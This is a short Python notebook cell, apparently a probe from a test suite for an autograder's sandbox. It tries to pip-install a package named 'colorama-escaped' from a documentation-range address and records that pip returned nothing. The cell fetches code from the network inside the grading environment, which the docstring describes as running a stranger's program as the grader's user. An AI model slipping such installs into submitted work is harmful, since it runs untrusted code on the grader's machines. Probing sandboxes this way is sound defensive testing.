"""Installs a package from the network in the notebook: a program by a stranger, run as the grader's user.

naive: 2/2, with whatever the package does; otter-grader's image runs pip with a network and as root.
reached: pip came back with nothing
"""

# %%
import subprocess, sys

done = subprocess.run(
    [sys.executable, "-m", "pip", "install", "--retries", "0", "--timeout", "2", "--target", "/tmp/packages",
     "--index-url", "https://192.0.2.1/simple", "colorama-escaped"],
    capture_output=True, text=True, timeout=30,
)  # fmt: skip
print("pip came back", "with nothing" if done.returncode else "with " + done.stdout[-200:])
